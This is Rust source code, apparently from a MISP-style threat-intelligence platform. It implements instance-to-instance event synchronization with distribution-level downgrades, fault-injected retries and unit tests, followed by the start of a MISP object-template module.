    let parent = span.as_ref().filter(|s| s.sampled()).map(|s| s.context());
    // Snapshot read: event bodies are borrowed from the store; the
    // apply path clones only events that survive the distribution gate.
    for versioned in source.store().snapshot().iter() {
        let event = &versioned.event;
        if !event.published {
            continue;
        }
        report.considered += 1;
        match apply_remote(target, event, parent) {
            Ok(ApplyOutcome::Withheld) => report.withheld += 1,
            Ok(ApplyOutcome::Inserted) => report.transferred += 1,
            Ok(ApplyOutcome::Merged) | Ok(ApplyOutcome::Unchanged) => {
                report.already_present += 1;
            }
            Err(_) => {}
        }
    }
    if let Some(span) = span.as_mut() {
        span.field("considered", report.considered);
        span.field("transferred", report.transferred);
    }
    report
}

/// Pulls from `remote` into `local` — push with the roles swapped, which
/// is exactly how MISP implements it.
pub fn pull(local: &MispApi, remote: &MispApi) -> SyncReport {
    push(remote, local)
}

/// The outcome of one resilient (fault-injected, retried) push.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ResilientSyncReport {
    /// The underlying transfer accounting.
    pub base: SyncReport,
    /// Delivery retries spent across all events.
    pub retries: u64,
    /// Events whose first delivery was applied but un-acked
    /// ([`FaultKind::AckLost`]): the retry found them already on the
    /// target and confirmed instead of duplicating.
    pub redelivered: usize,
    /// Events abandoned after the retry budget (never confirmed — an
    /// ack-lost apply may still have landed).
    pub failed: usize,
}

/// [`push`] under fault injection with retries — the resumable,
/// idempotent sync path.
///
/// Each event delivery consults `plan` at `site` and rides `policy`'s
/// retry ladder (backoff on `sleeper`, jitter from a stream seeded by
/// `seed` and the site). Delivery is idempotent by UUID, so the two
/// duplicate-shaped faults cannot duplicate events on the target:
///
/// - [`FaultKind::AckLost`] — the event lands but the sender sees an
///   error; the retry finds the UUID present and *confirms* rather
///   than re-inserting (counted in
///   [`ResilientSyncReport::redelivered`]).
/// - [`FaultKind::Replay`] — the event is delivered twice in one
///   attempt; the second copy is dropped by the UUID check.
/// - [`FaultKind::Error`] / [`FaultKind::Garbage`] /
///   [`FaultKind::Truncate`] — the delivery fails outright and is
///   retried.
/// - [`FaultKind::Delay`] — the delivery succeeds after a virtual
///   delay routed to `sleeper`.
///
/// A fault-free plan makes this byte-for-byte equivalent to [`push`].
pub fn push_resilient(
    source: &MispApi,
    target: &MispApi,
    plan: &FaultPlan,
    site: &str,
    policy: &RetryPolicy,
    sleeper: &impl Sleeper,
    seed: u64,
) -> ResilientSyncReport {
    let mut rng = StdRng::seed_from_u64(seed ^ site_hash(site));
    let mut report = ResilientSyncReport::default();
    for versioned in source.store().snapshot().iter() {
        let event = &versioned.event;
        if !event.published {
            continue;
        }
        report.base.considered += 1;
        if downgrade(event.distribution).is_none() {
            report.base.withheld += 1;
            continue;
        }
        if target.store().contains_uuid(&event.uuid) {
            report.base.already_present += 1;
            continue;
        }
        // One delivery attempt: the shared apply path downgrades once
        // per delivery and merges idempotently, so an earlier ack-lost
        // or replayed copy is confirmed (`Unchanged`), never decayed a
        // second hop or duplicated.
        let deliver = || -> ApplyOutcome {
            apply_remote(target, event, None).unwrap_or(ApplyOutcome::Unchanged)
        };
        let mut acklost_applied = false;
        let outcome = policy.run(&mut rng, sleeper, |_| match plan.next(site) {
            Some(FaultKind::Error) | Some(FaultKind::Garbage) | Some(FaultKind::Truncate) => {
                Err("injected delivery failure")
            }
            Some(FaultKind::AckLost) => {
                if deliver() == ApplyOutcome::Inserted {
                    acklost_applied = true;
                }
                Err("injected ack loss")
            }
            Some(FaultKind::Replay) => {
                // Delivered twice; the merge confirms the duplicate.
                deliver();
                deliver();
                Ok(())
            }
            Some(FaultKind::Delay(ms)) => {
                sleeper.sleep(Duration::from_millis(u64::from(ms)));
                deliver();
                Ok(())
            }
            None => {
                deliver();
                Ok(())
            }
        });
        report.retries += u64::from(outcome.retries);
        match outcome.result {
            Ok(()) => {
                report.base.transferred += 1;
                if acklost_applied {
                    report.redelivered += 1;
                }
            }
            Err(_) => report.failed += 1,
        }
        if outcome.interrupted {
            break;
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use cais_common::resilience::RecordingSleeper;

    fn published_event(api: &MispApi, info: &str, distribution: Distribution) -> u64 {
        let mut event = MispEvent::new(info);
        event.distribution = distribution;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            format!("{}.example", info),
        ));
        let id = api.add_event(event).unwrap();
        api.publish_event(id).unwrap();
        id
    }

    #[test]
    fn distribution_gates_transfer() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        published_event(&source, "org-only", Distribution::OrganizationOnly);
        published_event(&source, "community", Distribution::CommunityOnly);
        published_event(&source, "connected", Distribution::ConnectedCommunities);
        published_event(&source, "all", Distribution::AllCommunities);

        let report = push(&source, &target);
        assert_eq!(report.considered, 4);
        assert_eq!(report.withheld, 1);
        assert_eq!(report.transferred, 3);
        assert_eq!(target.store().len(), 3);
    }

    #[test]
    fn distribution_downgrades_per_hop() {
        let a = MispApi::new("a");
        let b = MispApi::new("b");
        let c = MispApi::new("c");
        published_event(&a, "two-hops", Distribution::ConnectedCommunities);

        push(&a, &b);
        let on_b = b.store().snapshot().events()[0].event.clone();
        assert_eq!(on_b.distribution, Distribution::CommunityOnly);

        // Re-publish on b so the second hop considers it.
        b.publish_event(on_b.id).unwrap();
        push(&b, &c);
        let on_c = c.store().snapshot().events()[0].event.clone();
        assert_eq!(on_c.distribution, Distribution::OrganizationOnly);

        // A third hop is impossible.
        let d = MispApi::new("d");
        c.publish_event(on_c.id).unwrap();
        let report = push(&c, &d);
        assert_eq!(report.withheld, 1);
        assert_eq!(d.store().len(), 0);
    }

    #[test]
    fn unpublished_events_stay_home() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let mut event = MispEvent::new("draft");
        event.distribution = Distribution::AllCommunities;
        source.add_event(event).unwrap();
        let report = push(&source, &target);
        assert_eq!(report.considered, 0);
        assert_eq!(target.store().len(), 0);
    }

    #[test]
    fn pull_mirrors_push() {
        let local = MispApi::new("local");
        let remote = MispApi::new("remote");
        published_event(&remote, "intel", Distribution::AllCommunities);
        let report = pull(&local, &remote);
        assert_eq!(report.transferred, 1);
        assert_eq!(local.store().len(), 1);
    }

    #[test]
    fn resilient_push_with_healthy_plan_matches_push() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let expected = MispApi::new("b2");
        for i in 0..4 {
            published_event(&source, &format!("e{i}"), Distribution::AllCommunities);
        }
        let plan = FaultPlan::healthy();
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        let baseline = push(&source, &expected);
        assert_eq!(report.base, baseline);
        assert_eq!(report.retries, 0);
        assert_eq!(report.redelivered, 0);
        assert_eq!(report.failed, 0);
        assert_eq!(target.store().len(), expected.store().len());
    }

    #[test]
    fn ack_loss_redelivers_without_duplicating() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        for i in 0..3 {
            published_event(&source, &format!("e{i}"), Distribution::AllCommunities);
        }
        // Every delivery's first attempt is applied but un-acked.
        let plan = FaultPlan::new(7).script(
            "misp.push",
            vec![
                Some(FaultKind::AckLost),
                None,
                Some(FaultKind::AckLost),
                None,
                Some(FaultKind::AckLost),
                None,
            ],
        );
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.base.transferred, 3);
        assert_eq!(report.redelivered, 3);
        assert_eq!(report.retries, 3);
        assert_eq!(report.failed, 0);
        // Zero duplicates: one event per UUID on the target.
        assert_eq!(target.store().len(), 3);
        let mut uuids: Vec<_> = target
            .store()
            .snapshot()
            .iter()
            .map(|v| v.event.uuid)
            .collect();
        uuids.sort_unstable();
        uuids.dedup();
        assert_eq!(uuids.len(), 3);
    }

    #[test]
    fn replay_faults_do_not_duplicate() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        published_event(&source, "e", Distribution::AllCommunities);
        let plan = FaultPlan::new(3).always("misp.push", FaultKind::Replay);
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.base.transferred, 1);
        assert_eq!(target.store().len(), 1);
    }

    #[test]
    fn dead_peer_exhausts_the_budget() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        for i in 0..2 {
            published_event(&source, &format!("e{i}"), Distribution::AllCommunities);
        }
        let plan = FaultPlan::new(5).always("misp.push", FaultKind::Error);
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.failed, 2);
        assert_eq!(report.base.transferred, 0);
        assert_eq!(report.retries, 4); // 2 retries per event
        assert_eq!(target.store().len(), 0);
        // A later fault-free pass completes the sync.
        let healthy = FaultPlan::healthy();
        let second = push_resilient(
            &source,
            &target,
            &healthy,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(second.base.transferred, 2);
        assert_eq!(target.store().len(), 2);
    }

    #[test]
    fn acklost_redelivery_downgrades_distribution_once() {
        // Regression: a ConnectedCommunities event arrives one hop down
        // as CommunityOnly. The ack-lost re-delivery of the same push
        // must *confirm* that copy, not run the hop decay again and pin
        // it to OrganizationOnly.
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        published_event(&source, "once", Distribution::ConnectedCommunities);
        let plan = FaultPlan::new(7).script(
            "misp.push",
            vec![
                Some(FaultKind::AckLost),
                None,
                Some(FaultKind::AckLost),
                None,
            ],
        );
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.redelivered, 1);
        assert_eq!(target.store().len(), 1);
        let copy = target.store().snapshot().events()[0].event.clone();
        assert_eq!(copy.distribution, Distribution::CommunityOnly);

        // A whole replayed *push run* (same frames again) is also a
        // pure confirm: distribution still decays exactly once.
        let second = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(second.base.already_present, 1);
        let copy = target.store().snapshot().events()[0].event.clone();
        assert_eq!(copy.distribution, Distribution::CommunityOnly);
    }

    #[test]
    fn apply_remote_is_idempotent_per_frame() {
        // Frame-level statement of the same property: applying the
        // identical wire copy twice inserts once, confirms once, and
        // never decays the stored distribution past the first hop.
        let target = MispApi::new("b");
        let mut wire = MispEvent::new("wire copy");
        wire.distribution = Distribution::ConnectedCommunities;
        wire.published = true;
        wire.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            "wire.example",
        ));
        assert_eq!(
            apply_remote(&target, &wire, None).unwrap(),
            ApplyOutcome::Inserted
        );
        assert_eq!(
            apply_remote(&target, &wire, None).unwrap(),
            ApplyOutcome::Unchanged
        );
        let copy = target.store().get_by_uuid(&wire.uuid).unwrap();
        assert_eq!(copy.distribution, Distribution::CommunityOnly);
        assert_eq!(copy.attributes.len(), 1);
        assert_eq!(target.store().len(), 1);
    }

    #[test]
    fn merge_unions_attributes_and_never_lowers_distribution() {
        // Two differently filtered copies of one event arrive over two
        // paths: the store joins them (attribute union, max
        // distribution) so the fixpoint is path-independent.
        let target = MispApi::new("b");
        let mut full = MispEvent::new("joined");
        full.distribution = Distribution::AllCommunities;
        full.published = true;
        let a1 = MispAttribute::new("domain", AttributeCategory::NetworkActivity, "one.example");
        let a2 = MispAttribute::new("domain", AttributeCategory::NetworkActivity, "two.example");
        full.add_attribute(a1.clone());
        full.add_attribute(a2.clone());

        let mut first = full.clone();
        first.attributes = vec![a1.clone()];
        // The second copy travelled further: one extra hop of decay.
        let mut second = full.clone();
        second.attributes = vec![a2.clone()];
        second.distribution = Distribution::ConnectedCommunities;

        assert_eq!(
            apply_remote(&target, &first, None).unwrap(),
            ApplyOutcome::Inserted
        );
        assert_eq!(
            apply_remote(&target, &second, None).unwrap(),
            ApplyOutcome::Merged
        );
        let copy = target.store().get_by_uuid(&full.uuid).unwrap();
        assert_eq!(copy.attributes.len(), 2);
        // AllCommunities survives; the narrower second copy cannot
        // lower it.
        assert_eq!(copy.distribution, Distribution::AllCommunities);
        // Both attributes are correlated/searchable after the merge.
        assert_eq!(target.store().events_with_value("two.example").len(), 1);
    }

    #[test]
    fn transferred_event_keeps_uuid_and_content() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let id = published_event(&source, "intel", Distribution::AllCommunities);
        let original = source.get_event(id).unwrap();
        push(&source, &target);
        let copy = target.store().get_by_uuid(&original.uuid).unwrap();
        assert_eq!(copy.info, original.info);
        assert_eq!(copy.attributes.len(), original.attributes.len());
        // The copy belongs to the target org's store but retains origin.
        assert_eq!(copy.org, "b");
    }
}
