//! Instance-to-instance synchronization with MISP distribution
//! semantics.
//!
//! MISP instances exchange events by push/pull; whether an event leaves
//! an instance is governed by its distribution level, and the level is
//! *downgraded one step per hop* so intelligence does not propagate
//! beyond the producer's intent:
//!
//! * `OrganizationOnly` — never synced,
//! * `CommunityOnly` — synced, arrives as `OrganizationOnly`,
//! * `ConnectedCommunities` — synced, arrives as `CommunityOnly`,
//! * `AllCommunities` — synced unchanged.

use std::time::Duration;

use cais_common::resilience::{site_hash, FaultKind, FaultPlan, RetryPolicy, Sleeper};
use rand::rngs::StdRng;
use rand::SeedableRng;

use crate::api::MispApi;
use crate::event::{Distribution, MispEvent};

/// The outcome of one synchronization run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct SyncReport {
    /// Events considered on the source.
    pub considered: usize,
    /// Events actually transferred.
    pub transferred: usize,
    /// Events withheld by distribution policy.
    pub withheld: usize,
    /// Events skipped because the target already has them (by UUID).
    pub already_present: usize,
}

/// Computes the distribution level an event arrives with, or `None`
/// when it must not leave the instance.
pub fn downgrade(distribution: Distribution) -> Option<Distribution> {
    match distribution {
        Distribution::OrganizationOnly => None,
        Distribution::CommunityOnly => Some(Distribution::OrganizationOnly),
        Distribution::ConnectedCommunities => Some(Distribution::CommunityOnly),
        Distribution::AllCommunities => Some(Distribution::AllCommunities),
    }
}

/// Pushes every *published* shareable event from `source` to `target`.
///
/// Events already present on the target (same UUID) are skipped, making
/// the operation idempotent.
///
/// # Examples
///
/// ```
/// use cais_misp::{MispApi, MispEvent};
/// use cais_misp::event::Distribution;
/// use cais_misp::sync::push;
///
/// let source = MispApi::new("org-a");
/// let target = MispApi::new("org-b");
/// let mut event = MispEvent::new("shared intel");
/// event.distribution = Distribution::AllCommunities;
/// let id = source.add_event(event)?;
/// source.publish_event(id)?;
///
/// let report = push(&source, &target);
/// assert_eq!(report.transferred, 1);
/// assert_eq!(push(&source, &target).already_present, 1); // idempotent
/// # Ok::<(), cais_misp::MispError>(())
/// ```
pub fn push(source: &MispApi, target: &MispApi) -> SyncReport {
    let mut report = SyncReport::default();
    // A sync push is an ingress on the target: mint a root trace there
    // and record each transferred insert as its child.
    let mut span = target.tracer().map(|t| t.root("sync", "sync_push"));
    let parent = span.as_ref().filter(|s| s.sampled()).map(|s| s.context());
    // Snapshot read: event bodies are borrowed from the store; only
    // events that actually transfer are cloned.
    for versioned in source.store().snapshot().iter() {
        let event = &versioned.event;
        if !event.published {
            continue;
        }
        report.considered += 1;
        let Some(arrival_distribution) = downgrade(event.distribution) else {
            report.withheld += 1;
            continue;
        };
        if target.store().contains_uuid(&event.uuid) {
            report.already_present += 1;
            continue;
        }
        let mut transferred: MispEvent = (**event).clone();
        transferred.id = 0;
        transferred.distribution = arrival_distribution;
        if target.add_event_with_trace(transferred, parent).is_ok() {
            report.transferred += 1;
        }
    }
    if let Some(span) = span.as_mut() {
        span.field("considered", report.considered);
        span.field("transferred", report.transferred);
    }
    report
}

/// Pulls from `remote` into `local` — push with the roles swapped, which
/// is exactly how MISP implements it.
pub fn pull(local: &MispApi, remote: &MispApi) -> SyncReport {
    push(remote, local)
}

/// The outcome of one resilient (fault-injected, retried) push.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ResilientSyncReport {
    /// The underlying transfer accounting.
    pub base: SyncReport,
    /// Delivery retries spent across all events.
    pub retries: u64,
    /// Events whose first delivery was applied but un-acked
    /// ([`FaultKind::AckLost`]): the retry found them already on the
    /// target and confirmed instead of duplicating.
    pub redelivered: usize,
    /// Events abandoned after the retry budget (never confirmed — an
    /// ack-lost apply may still have landed).
    pub failed: usize,
}

/// [`push`] under fault injection with retries — the resumable,
/// idempotent sync path.
///
/// Each event delivery consults `plan` at `site` and rides `policy`'s
/// retry ladder (backoff on `sleeper`, jitter from a stream seeded by
/// `seed` and the site). Delivery is idempotent by UUID, so the two
/// duplicate-shaped faults cannot duplicate events on the target:
///
/// - [`FaultKind::AckLost`] — the event lands but the sender sees an
///   error; the retry finds the UUID present and *confirms* rather
///   than re-inserting (counted in
///   [`ResilientSyncReport::redelivered`]).
/// - [`FaultKind::Replay`] — the event is delivered twice in one
///   attempt; the second copy is dropped by the UUID check.
/// - [`FaultKind::Error`] / [`FaultKind::Garbage`] /
///   [`FaultKind::Truncate`] — the delivery fails outright and is
///   retried.
/// - [`FaultKind::Delay`] — the delivery succeeds after a virtual
///   delay routed to `sleeper`.
///
/// A fault-free plan makes this byte-for-byte equivalent to [`push`].
pub fn push_resilient(
    source: &MispApi,
    target: &MispApi,
    plan: &FaultPlan,
    site: &str,
    policy: &RetryPolicy,
    sleeper: &impl Sleeper,
    seed: u64,
) -> ResilientSyncReport {
    let mut rng = StdRng::seed_from_u64(seed ^ site_hash(site));
    let mut report = ResilientSyncReport::default();
    for versioned in source.store().snapshot().iter() {
        let event = &versioned.event;
        if !event.published {
            continue;
        }
        report.base.considered += 1;
        let Some(arrival_distribution) = downgrade(event.distribution) else {
            report.base.withheld += 1;
            continue;
        };
        if target.store().contains_uuid(&event.uuid) {
            report.base.already_present += 1;
            continue;
        }
        // Applies the event unless its UUID already landed (an earlier
        // ack-lost or replayed delivery); returns whether it inserted.
        let deliver = || -> bool {
            if target.store().contains_uuid(&event.uuid) {
                return false;
            }
            let mut transferred: MispEvent = (**event).clone();
            transferred.id = 0;
            transferred.distribution = arrival_distribution;
            target.add_event(transferred).is_ok()
        };
        let mut acklost_applied = false;
        let outcome = policy.run(&mut rng, sleeper, |_| match plan.next(site) {
            Some(FaultKind::Error) | Some(FaultKind::Garbage) | Some(FaultKind::Truncate) => {
                Err("injected delivery failure")
            }
            Some(FaultKind::AckLost) => {
                if deliver() {
                    acklost_applied = true;
                }
                Err("injected ack loss")
            }
            Some(FaultKind::Replay) => {
                // Delivered twice; the UUID check drops the duplicate.
                deliver();
                deliver();
                Ok(())
            }
            Some(FaultKind::Delay(ms)) => {
                sleeper.sleep(Duration::from_millis(u64::from(ms)));
                deliver();
                Ok(())
            }
            None => {
                deliver();
                Ok(())
            }
        });
        report.retries += u64::from(outcome.retries);
        match outcome.result {
            Ok(()) => {
                report.base.transferred += 1;
                if acklost_applied {
                    report.redelivered += 1;
                }
            }
            Err(_) => report.failed += 1,
        }
        if outcome.interrupted {
            break;
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use cais_common::resilience::RecordingSleeper;

    fn published_event(api: &MispApi, info: &str, distribution: Distribution) -> u64 {
        let mut event = MispEvent::new(info);
        event.distribution = distribution;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            format!("{}.example", info),
        ));
        let id = api.add_event(event).unwrap();
        api.publish_event(id).unwrap();
        id
    }

    #[test]
    fn distribution_gates_transfer() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        published_event(&source, "org-only", Distribution::OrganizationOnly);
        published_event(&source, "community", Distribution::CommunityOnly);
        published_event(&source, "connected", Distribution::ConnectedCommunities);
        published_event(&source, "all", Distribution::AllCommunities);

        let report = push(&source, &target);
        assert_eq!(report.considered, 4);
        assert_eq!(report.withheld, 1);
        assert_eq!(report.transferred, 3);
        assert_eq!(target.store().len(), 3);
    }

    #[test]
    fn distribution_downgrades_per_hop() {
        let a = MispApi::new("a");
        let b = MispApi::new("b");
        let c = MispApi::new("c");
        published_event(&a, "two-hops", Distribution::ConnectedCommunities);

        push(&a, &b);
        let on_b = b.store().snapshot().events()[0].event.clone();
        assert_eq!(on_b.distribution, Distribution::CommunityOnly);

        // Re-publish on b so the second hop considers it.
        b.publish_event(on_b.id).unwrap();
        push(&b, &c);
        let on_c = c.store().snapshot().events()[0].event.clone();
        assert_eq!(on_c.distribution, Distribution::OrganizationOnly);

        // A third hop is impossible.
        let d = MispApi::new("d");
        c.publish_event(on_c.id).unwrap();
        let report = push(&c, &d);
        assert_eq!(report.withheld, 1);
        assert_eq!(d.store().len(), 0);
    }

    #[test]
    fn unpublished_events_stay_home() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let mut event = MispEvent::new("draft");
        event.distribution = Distribution::AllCommunities;
        source.add_event(event).unwrap();
        let report = push(&source, &target);
        assert_eq!(report.considered, 0);
        assert_eq!(target.store().len(), 0);
    }

    #[test]
    fn pull_mirrors_push() {
        let local = MispApi::new("local");
        let remote = MispApi::new("remote");
        published_event(&remote, "intel", Distribution::AllCommunities);
        let report = pull(&local, &remote);
        assert_eq!(report.transferred, 1);
        assert_eq!(local.store().len(), 1);
    }

    #[test]
    fn resilient_push_with_healthy_plan_matches_push() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let expected = MispApi::new("b2");
        for i in 0..4 {
            published_event(&source, &format!("e{i}"), Distribution::AllCommunities);
        }
        let plan = FaultPlan::healthy();
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        let baseline = push(&source, &expected);
        assert_eq!(report.base, baseline);
        assert_eq!(report.retries, 0);
        assert_eq!(report.redelivered, 0);
        assert_eq!(report.failed, 0);
        assert_eq!(target.store().len(), expected.store().len());
    }

    #[test]
    fn ack_loss_redelivers_without_duplicating() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        for i in 0..3 {
            published_event(&source, &format!("e{i}"), Distribution::AllCommunities);
        }
        // Every delivery's first attempt is applied but un-acked.
        let plan = FaultPlan::new(7).script(
            "misp.push",
            vec![
                Some(FaultKind::AckLost),
                None,
                Some(FaultKind::AckLost),
                None,
                Some(FaultKind::AckLost),
                None,
            ],
        );
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.base.transferred, 3);
        assert_eq!(report.redelivered, 3);
        assert_eq!(report.retries, 3);
        assert_eq!(report.failed, 0);
        // Zero duplicates: one event per UUID on the target.
        assert_eq!(target.store().len(), 3);
        let mut uuids: Vec<_> = target
            .store()
            .snapshot()
            .iter()
            .map(|v| v.event.uuid)
            .collect();
        uuids.sort_unstable();
        uuids.dedup();
        assert_eq!(uuids.len(), 3);
    }

    #[test]
    fn replay_faults_do_not_duplicate() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        published_event(&source, "e", Distribution::AllCommunities);
        let plan = FaultPlan::new(3).always("misp.push", FaultKind::Replay);
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.base.transferred, 1);
        assert_eq!(target.store().len(), 1);
    }

    #[test]
    fn dead_peer_exhausts_the_budget() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        for i in 0..2 {
            published_event(&source, &format!("e{i}"), Distribution::AllCommunities);
        }
        let plan = FaultPlan::new(5).always("misp.push", FaultKind::Error);
        let report = push_resilient(
            &source,
            &target,
            &plan,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(report.failed, 2);
        assert_eq!(report.base.transferred, 0);
        assert_eq!(report.retries, 4); // 2 retries per event
        assert_eq!(target.store().len(), 0);
        // A later fault-free pass completes the sync.
        let healthy = FaultPlan::healthy();
        let second = push_resilient(
            &source,
            &target,
            &healthy,
            "misp.push",
            &RetryPolicy::fast(3),
            &RecordingSleeper::default(),
            42,
        );
        assert_eq!(second.base.transferred, 2);
        assert_eq!(target.store().len(), 2);
    }

    #[test]
    fn transferred_event_keeps_uuid_and_content() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let id = published_event(&source, "intel", Distribution::AllCommunities);
        let original = source.get_event(id).unwrap();
        push(&source, &target);
        let copy = target.store().get_by_uuid(&original.uuid).unwrap();
        assert_eq!(copy.info, original.info);
        assert_eq!(copy.attributes.len(), original.attributes.len());
        // The copy belongs to the target org's store but retains origin.
        assert_eq!(copy.org, "b");
    }
}
