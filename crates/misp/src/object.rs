//! MISP objects: typed groupings of attributes following a template.
//!
//! Where bare attributes are single values, MISP *objects* bundle
//! related values under named relations — a `file` object carries
//! `filename`, `md5`, `sha256`; a `domain-ip` object ties a domain to
//! the address it resolves to. The paper points at "the MISP format"
//! data models (Section III-A1, footnote 4); this module implements the
//! object layer over a small registry of the templates the platform
//! uses.

use cais_common::Uuid;
use serde::{Deserialize, Serialize};

use crate::attribute::MispAttribute;
use crate::error::MispError;

/// One relation slot in a template.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TemplateRelation {
    /// The relation name (`md5`, `domain`, `ip`, …).
    pub name: &'static str,
    /// The MISP attribute type the slot takes.
    pub attr_type: &'static str,
    /// Whether the template requires the slot to be filled.
    pub required: bool,
}

/// An object template: a name plus its relation slots.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectTemplate {
    /// Template name (`file`, `domain-ip`, `vulnerability`).
    pub name: &'static str,
    /// The slots.
    pub relations: &'static [TemplateRelation],
}

const fn rel(name: &'static str, attr_type: &'static str, required: bool) -> TemplateRelation {
    TemplateRelation {
        name,
        attr_type,
        required,
    }
}

/// The built-in templates, modeled on MISP's standard object library.
pub const TEMPLATES: &[ObjectTemplate] = &[
    ObjectTemplate {
        name: "file",
        relations: &[
            rel("filename", "filename", false),
            rel("md5", "md5", false),
            rel("sha1", "sha1", false),
            rel("sha256", "sha256", true),
        ],
    },
    ObjectTemplate {
        name: "domain-ip",
        relations: &[rel("domain", "domain", true), rel("ip", "ip-dst", true)],
    },
    ObjectTemplate {
        name: "vulnerability",
        relations: &[
            rel("id", "vulnerability", true),
            rel("summary", "text", false),
            rel("references", "link", false),
        ],
    },
    ObjectTemplate {
        name: "url",
        relations: &[rel("url", "url", true), rel("domain", "domain", false)],
    },
];

/// Finds a built-in template by name.
pub fn template(name: &str) -> Option<&'static ObjectTemplate> {
    TEMPLATES.iter().find(|t| t.name == name)
}

/// An instantiated MISP object: a template name plus attributes tagged
/// with their relation.
///
/// # Examples
///
/// ```
/// use cais_misp::object::MispObject;
/// use cais_misp::{AttributeCategory, MispAttribute};
///
/// let mut object = MispObject::new("domain-ip")?;
/// object.set(
///     "domain",
///     MispAttribute::new("domain", AttributeCategory::NetworkActivity, "c2.threat.ru"),
/// )?;
/// object.set(
///     "ip",
///     MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "45.33.12.7"),
/// )?;
/// object.validate()?;
/// # Ok::<(), cais_misp::MispError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MispObject {
    /// Object UUID.
    pub uuid: Uuid,
    /// The template this object instantiates.
    pub template: String,
    /// `(relation, attribute)` pairs.
    pub attributes: Vec<(String, MispAttribute)>,
}

impl MispObject {
    /// Creates an empty object of a known template.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::UnknownAttributeType`] (reused for unknown
    /// template names, carrying the name) when the template is not
    /// registered.
    pub fn new(template_name: &str) -> Result<Self, MispError> {
        if template(template_name).is_none() {
            return Err(MispError::UnknownAttributeType {
                attr_type: format!("object-template:{template_name}"),
            });
        }
        Ok(MispObject {
            uuid: Uuid::new_v4(),
            template: template_name.to_owned(),
            attributes: Vec::new(),
        })
    }

    /// Fills a relation slot (replacing any previous value for it).
    ///
    /// # Errors
    ///
    /// Rejects unknown relations, attribute types that do not match the
    /// slot, and invalid attribute values.
    pub fn set(&mut self, relation: &str, attribute: MispAttribute) -> Result<(), MispError> {
        let tpl = template(&self.template).expect("validated at construction");
        let Some(slot) = tpl.relations.iter().find(|r| r.name == relation) else {
            return Err(MispError::UnknownAttributeType {
                attr_type: format!("{}:{relation}", self.template),
            });
        };
        if slot.attr_type != attribute.attr_type {
            return Err(MispError::InvalidAttributeValue {
                attr_type: format!("{}:{relation} expects {}", self.template, slot.attr_type),
                value: attribute.attr_type.clone(),
            });
        }
        attribute.validate()?;
        self.attributes.retain(|(r, _)| r != relation);
        self.attributes.push((relation.to_owned(), attribute));
        Ok(())
    }

    /// The attribute filling a relation, if set.
    pub fn get(&self, relation: &str) -> Option<&MispAttribute> {
        self.attributes
            .iter()
            .find(|(r, _)| r == relation)
            .map(|(_, a)| a)
    }

    /// Checks that every required relation is filled.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::InvalidAttributeValue`] naming the first
    /// missing required relation.
    pub fn validate(&self) -> Result<(), MispError> {
        let tpl = template(&self.template).expect("validated at construction");
        for slot in tpl.relations.iter().filter(|r| r.required) {
            if self.get(slot.name).is_none() {
                return Err(MispError::InvalidAttributeValue {
                    attr_type: format!("{}:{}", self.template, slot.name),
                    value: "<missing required relation>".to_owned(),
                });
            }
        }
        Ok(())
    }

    /// Flattens the object into plain attributes (with the relation
